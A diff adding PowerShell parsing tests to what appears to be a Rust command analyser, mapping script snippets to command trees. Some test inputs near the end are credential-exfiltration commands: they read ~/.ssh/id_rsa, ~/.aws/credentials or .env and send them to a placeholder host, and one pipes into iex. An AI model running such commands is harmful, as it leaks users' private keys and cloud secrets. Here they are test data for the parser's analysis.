@@ -140,3 +140,99 @@ fn jobs() {
         ("powershell -Command { rm x }", r#"(cmd "powershell" "-Command" (block (cmd "remove-item" "x")))"#),
     ]);
 }
+
+#[test]
+fn from_real_scripts() {
+    check(&[
+        (
+            "[cmdletbinding()]\nparam(\n [string]$A=\"x\",\n [ValidateSet(\"a\", IgnoreCase = $false)]\n [string]$B,\n [switch]$C\n)\n\nfoo $A",
+            r#"(set a ${a:-"x"}) (cmd "foo" $a)"#,
+        ),
+        ("[A()][B(1)]class X { F() { rm x } }", r#"(fn ps:.f () (cmd "remove-item" "x"))"#),
+        ("[ValidateScript({ MARK })]$x = 1", r#"(cmd "mark") (set x "1")"#),
+        ("[ValidateScript({ MARK })][int]$x = 1; $x", r#"(cmd "mark") (set x "1") (cmd "write-output" $x)"#),
+        (
+            "$a = [X]::Parse($b, [ref] $null).\n   EndBlock.Text",
+            r#"(set a (out (cmd "ps:.text" "--self" (out (cmd "ps:.endblock" "--self" (out (cmd "ps:[x]::parse" $b "")))))))"#,
+        ),
+        (
+            "return ([Security.Principal.WindowsPrincipal]`\n [Security.Principal.WindowsIdentity]::GetCurrent()`\n ).IsInRole([X]::Administrator)",
+            r#"(return (out (cmd "ps:.isinrole" "--self" (out (cmd "ps:[system.security.principal.windowsidentity]::getcurrent")) (out (cmd "ps:[x]::administrator")))))"#,
+        ),
+        ("Invoke-With-Retry(\n{\n foo\n})", r#"(cmd "invoke-with-retry" (block (cmd "foo")))"#),
+        (
+            "$p = New-Object System.Net.WebProxy -Property @{\n Address=$a;\n Use=$b;\n}",
+            r#"(set p (out (cmd "new-object" "System.Net.WebProxy" "-Property" (list $a $b))))"#,
+        ),
+        (
+            "$d = -split $x; $v = @{\n A = $(if ($d.Count -gt 1) { $d[0] })\n B = $d[-1] # c\n}",
+            r#"(set d (word ? $x)) (set v (list (out (if () (arm (cmd "write-output" $d[0])))) $d[-1]))"#,
+        ),
+        ("return & $sb", "(return (out (cmd $sb)))"),
+        (
+            r#"Get-Content($f) -Raw | ConvertFrom-Json | Select-Object -expand "sdk" -ErrorAction SilentlyContinue"#,
+            r#"(pipe (cmd "get-content" $f "-Raw") (cmd "convertfrom-json") (cmd "select-object" "-expand" "sdk" "-ErrorAction" "SilentlyContinue"))"#,
+        ),
+        (r#"If (-Not (Test-Path $f)) { throw "x '$f'" }"#, r#"(if ((cmd "test-path" $f)) (arm))"#),
+        (r#"$e.Data["S"] = [int] $r.StatusCode"#, "(set e.data[S] $r[.statuscode])"),
+        (
+            r#"$u = $a, $env:SCOOP, "$env:U\scoop" | Select-Object -first 1"#,
+            r#"(set u (out (pipe (cmd "write-output" (list $a $env:SCOOP (word $env:U "\\scoop"))) (cmd "select-object" "-first" "1"))))"#,
+        ),
+        (
+            "$a = [X]::Parse($b, [ref] $null).\n   EndBlock.Text",
+            r#"(set a (out (cmd "ps:.text" "--self" (out (cmd "ps:.endblock" "--self" (out (cmd "ps:[x]::parse" $b "")))))))"#,
+        ),
+        (
+            r#"$t = ($a.Keys | foreach { "-$_ `"$($a[$_])`"" }) -join " ""#,
+            r#"(set t (word ? (out (pipe (cmd "write-output" $a[.keys]) (cmd "foreach-object" (block (cmd "write-output" (word "-" $_ " \"" ? $a $_ "\""))))))))"#,
+        ),
+        (
+            r#"foo -bar:$x -baz:"a b" | Where-Object { $_.Name -like '*.x' -and !$_.PSIsContainer }"#,
+            r#"(pipe (cmd "foo" (word "-bar" ":" $x) "-baz:a b") (cmd "where-object" (block)))"#,
+        ),
+        (
+            "1..10 | ForEach-Object -Parallel { rm $using:x } -ThrottleLimit 5",
+            r#"(pipe (cmd "write-output" (list "1" "2" "3" "4" "5" "6" "7" "8" "9" "10")) (cmd "foreach-object" "-Parallel" (block (cmd "remove-item" $x)) "-ThrottleLimit" "5"))"#,
+        ),
+        ("$x = @(\n 'a'\n 'b'\n)", r#"(set x "a" "b")"#),
+        ("$x = @(\n 'a',\n \"b\" # c\n)", r#"(set x "a" "b")"#),
+        (
+            r#"& git @('a','b') 2>&1 | % { "$_" }"#,
+            r#"(pipe (cmd "git" (list "a" "b") (2>& "1")) (cmd "foreach-object" (block (cmd "write-output" $_))))"#,
+        ),
+        (
+            "[PSCustomObject]@{ A = 1; B = foo } | Export-Csv x",
+            r#"(pipe (cmd "write-output" (list "1" (out (cmd "foo")))) (cmd "export-csv" "x"))"#,
+        ),
+        (
+            "$x | Select-Object @{N='a';E={ $_.b }}",
+            r#"(pipe (cmd "write-output" $x) (cmd "select-object" (list "a" (block (cmd "write-output" $_[.b])))))"#,
+        ),
+        (
+            "function A { [CmdletBinding(SupportsShouldProcess=$true)] param([Parameter(Position=0)] $x) process { if ($PSCmdlet.ShouldProcess($x)) { rm $x } } }",
+            r#"(fn a (x) (group (if ((cmd "ps:.shouldprocess" "--self" $pscmdlet $x)) (arm (cmd "remove-item" $x)))))"#,
+        ),
+        (
+            "while (($line = $r.ReadLine()) -ne $null) { $line }",
+            r#"(loop () ((set line (out (cmd "ps:.readline" "--self" $r))) (cmd "write-output" $line)) (cmd "write-output" $line))"#,
+        ),
+        (
+            r#"$a = "x"; $a.Substring(1) + 'b' | iex"#,
+            r#"(set a "x") (pipe (cmd "write-output" (word (out (cmd "ps:.substring" "--self" $a "1")) "b")) (cmd "invoke-expression"))"#,
+        ),
+        (
+            r#"$b64 = [Convert]::ToBase64String([IO.File]::ReadAllBytes("$HOME\.ssh\id_rsa")); iwr "https://x/?d=$b64""#,
+            r#"(set b64 (out (cmd "ps:[system.convert]::tobase64string" (out (cmd "ps:[system.io.file]::readallbytes" (word $HOME "\\.ssh\\id_rsa")))))) (cmd "invoke-webrequest" (word "https://x/?d=" $b64))"#,
+        ),
+        (
+            "Invoke-RestMethod -Uri https://x -Method Post -Body (Get-Content ~/.aws/credentials -Raw)",
+            r#"(cmd "invoke-restmethod" "-Uri" "https://x" "-Method" "Post" "-Body" (out (cmd "get-content" (word (tilde "") "/.aws/credentials") "-Raw")))"#,
+        ),
+        (
+            "Invoke-RestMethod https://x -Body @{ k = (gc .env) }",
+            r#"(cmd "invoke-restmethod" "https://x" "-Body" (list (out (cmd "get-content" ".env"))))"#,
+        ),
+        ("Remove-Item -Path:$x -Recurse:$r -p:$y", r#"(cmd "remove-item" "-Path" $x "-Recurse" "-p" $y)"#),
+    ]);
+}
